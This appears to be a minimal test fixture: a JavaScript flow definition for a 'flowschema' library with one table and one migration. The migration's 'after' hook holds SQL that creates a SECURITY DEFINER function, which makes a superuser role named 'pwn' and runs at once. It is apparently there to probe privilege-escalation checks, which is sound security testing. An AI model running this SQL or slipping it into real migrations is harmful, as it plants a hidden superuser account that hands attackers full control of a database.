import { defineFlow, sql } from 'flowschema';
export default defineFlow({
  key: 'f',
  domain: "sec-b19",
  version: "1.1.0",
  states: { a: { type: 'initial', transitions: { go: 'b' } }, b: { type: 'final' } },
  tables: {
    t: {
      columns: {
        id: { type: 'integer', primaryKey: true },
        note: { type: 'text', optional: true },
      },
    },
  },
  migrations: { '1.1.0': { after: "CREATE FUNCTION f.pwn() RETURNS void LANGUAGE sql SECURITY DEFINER AS $$ CREATE ROLE pwn SUPERUSER $$; SELECT f.pwn();" } },
});
